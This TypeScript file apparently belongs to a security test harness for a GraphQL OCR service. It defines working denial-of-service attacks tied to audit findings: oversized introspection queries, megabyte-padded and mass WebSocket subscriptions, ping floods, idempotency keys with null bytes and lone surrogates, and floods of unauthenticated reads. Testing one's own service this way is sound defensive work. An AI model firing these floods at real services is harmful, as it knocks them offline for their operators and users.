import { setTimeout as sleep } from 'node:timers/promises';
import { request } from 'undici';
import { WebSocket } from 'ws';
import type { Attack, Attacker } from '../attack.ts';
import { persist } from '../persist.ts';
import { ask, byKey } from './ask.ts';
import { ended, openSocket } from './open-socket.ts';
import { PIXEL_INPUT, post } from './post.ts';

/** `width` aliases of the schema's lists at each of three levels: as many copies of the schema as its cube. */
function wideIntrospection(width: number): string {
  const many = (field: (alias: string) => string) => Array.from({ length: width }, (_, n) => field(`a${n}`)).join(' ');
  return `{ __schema { ${many((alias) => `${alias}: types { ...T }`)} } }
    fragment T on __Type { ${many((alias) => `${alias}: fields { ...F }`)} }
    fragment F on __Field { name description }`;
}

export const introspectionOverHttp: Attack = {
  name: 'wide introspection over HTTP',
  finding: 'S1',
  run: (target, signal) => {
    const refusals = ['GRAPHQL_VALIDATION_FAILED']; // it is too wide
    const question = { ...byKey(target, target.penniless), body: { query: wideIntrospection(8) }, refusals };
    return persist(signal, { pauseMs: 200 }, () => ask(question, signal));
  },
};

export const introspectionOverSockets: Attack = {
  name: 'wide introspection over a socket',
  finding: 'S1',
  run: ({ url, penniless }, signal) =>
    persist(signal, { pauseMs: 200 }, async () => {
      const socket = await openSocket(url, penniless.apiKey, signal);
      socket.send(JSON.stringify({ type: 'subscribe', id: '1', payload: { query: wideIntrospection(22) } }));
      await ended(socket, signal, 5000);
    }),
};

/** Comments are no tokens: a subscription's text may be long although it says nothing. */
export const longSubscriptions: Attack = {
  name: 'subscriptions with a megabyte of comment',
  finding: 'S10',
  run: ({ url, penniless }, signal) =>
    persist(signal, { width: 2, pauseMs: 500 }, async () => {
      const socket = await openSocket(url, penniless.apiKey, signal);
      for (let n = 0; n < 100 && socket.readyState === WebSocket.OPEN; n++) {
        const query = `subscription { requestsChanged { status } } # ${n} ${'x'.repeat(900_000)}`;
        socket.send(JSON.stringify({ type: 'subscribe', id: String(n), payload: { query } }));
      }
      await ended(socket, signal, 20_000);
    }),
};

/** Each event of the account's is executed for every one of them. */
export const manySubscriptions: Attack = {
  name: 'thousands of subscriptions of which no two are equal, and requests',
  finding: 'S10',
  run: async ({ url, funded, share }, signal) => {
    const subscribe = async (n: number) => {
      const socket = await openSocket(url, funded.apiKey, signal);
      for (let id = 0; id < 100; id++) {
        const query = `subscription { requestsChanged { a${n}_${id}: status } }`;
        socket.send(JSON.stringify({ type: 'subscribe', id: String(id), payload: { query } }));
      }
    };
    const body = { engine: 'instant', input: PIXEL_INPUT };
    let opened = 0;
    await persist(signal, { width: 4, pauseMs: 100 }, async () => {
      while (opened < 80 * share && !signal.aborted) await subscribe(opened++);
      await post(funded, body, signal);
    });
  },
};

/** Each costs more than its bytes. Only as much is under way as the gateway takes, so that the attack itself costs little. */
export const shortMessages: Attack = {
  name: 'short messages over sockets, as fast as they are taken',
  finding: 'S10',
  run: ({ url, penniless }, signal) =>
    persist(signal, { width: 2, pauseMs: 500 }, async () => {
      const socket = await openSocket(url, penniless.apiKey, signal);
      while (!signal.aborted && socket.readyState === WebSocket.OPEN) {
        for (let n = 0; n < 2000 && socket.bufferedAmount < 64 * 1024; n++) socket.send('{"type":"ping"}');
        await sleep(20);
      }
    }),
};

export const unstorableKeys: Attack = {
  name: 'idempotency keys that PostgreSQL cannot store, by GraphQL',
  finding: 'S5, B1',
  run: (target, signal) => {
    const keys = ['\u0000', 'k\u0000', '\ud800', 'k'.repeat(6000)];
    let n = 0;
    return persist(signal, { pauseMs: 40 }, () => {
      n += 1;
      const idempotencyKey = `${keys[n % keys.length]}${n}`;
      const body = { query: SUBMIT, variables: { idempotencyKey, request: requestOf() } };
      return ask({ ...byKey(target, target.funded), body, refusals: ['invalid_request'] }, signal);
    });
  },
};

export const anonymousReads: Attack = {
  name: 'sixty connections that read public series without a key',
  finding: 'S17',
  run: ({ url }, signal) =>
    persist(signal, { width: 60, pauseMs: 0 }, () =>
      readWhole(`${url}/v1/engines/tesseract/latency?hours=720`, signal),
    ),
};

export const anonymousStatus: Attack = {
  name: 'sixty connections that read status and incidents without a key',
  finding: 'S17',
  run: ({ url }, signal) => {
    let n = 0;
    return persist(signal, { width: 60, pauseMs: 0 }, () => {
      n += 1;
      return readWhole(`${url}/v1/${n % 2 === 0 ? 'incidents' : 'status'}`, signal);
    });
  },
};

export const packedFiles: Attack = {
  name: 'forty readers of the explorer',
  finding: 'S17',
  run: ({ url, penniless }, signal) =>
    persist(signal, { width: 40, pauseMs: 0 }, () => readWhole(`${url}/graphiql`, signal, penniless)),
};

export const dashboardFiles: Attack = {
  name: 'forty readers of the dashboard’s files, without a login',
  finding: 'S17',
  run: async ({ dashboardUrl }, signal) => {
    const page = await (await fetch(dashboardUrl, { headers: { accept: 'text/html' } })).text();
    const [path] = /\/assets\/[\w-]+\.js/.exec(page) ?? [];
    if (path === undefined) throw new Error('the page names no script');
    const { href } = new URL(path, dashboardUrl);
    await persist(signal, { width: 40, pauseMs: 0 }, () => readWhole(href, signal));
  },
};

const SUBMIT = `mutation ($request: OcrRequestInput!, $idempotencyKey: String!) {
  submitOcr(request: $request, idempotencyKey: $idempotencyKey) { id }
}`;

/** A picture of one pixel: small, and readable. */
const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

function requestOf() {
  return { engine: 'instant', input: { type: 'base64', dataBase64: PIXEL } };
}

const MOST_BYTES = 64 * 1024 * 1024;

/** All of an answer. Throws for one that is neither the page nor that there were too many calls. */
async function readWhole(url: string, signal: AbortSignal, as?: Attacker): Promise<void> {
  const headers = as ? { authorization: `Bearer ${as.apiKey}` } : {};
  const { statusCode, body } = await request(url, { headers, signal });
  await body.dump({ limit: MOST_BYTES });
  if (statusCode !== 200 && statusCode !== 429) throw new Error(`${url} was answered ${statusCode}`);
}
